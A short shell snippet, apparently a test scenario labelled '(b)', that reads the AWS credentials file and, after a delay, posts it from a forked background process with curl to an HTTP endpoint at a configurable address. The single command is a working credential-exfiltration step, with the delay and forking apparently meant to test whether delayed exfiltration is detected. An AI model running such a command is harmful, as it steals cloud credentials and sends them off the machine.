# (b) Reads the credentials and sends them later, from a forked child.
sh -c 'keys=$(cat "$HOME/.aws/credentials"); (sleep "$1"; printf %s "$keys" | curl -fsS -m 5 --data-binary @- "$2") & wait' \
    report "$SCENE_PACE" "http://$SCENE_ADDRESS:8080/report"
